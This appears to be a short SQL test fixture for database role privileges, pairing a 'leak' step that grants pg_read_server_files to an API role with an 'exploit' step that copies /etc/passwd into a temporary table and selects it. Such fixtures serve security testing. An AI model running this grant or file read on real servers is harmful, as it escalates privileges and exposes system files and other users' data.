-- Reading the server's files reads everybody's rows.
-- object: role:{api}
-- base: orm
--- leak
RESET ROLE; GRANT pg_read_server_files TO {api};
--- exploit
CREATE TEMP TABLE lines (line text); COPY lines FROM '/etc/passwd'; SELECT FROM lines;
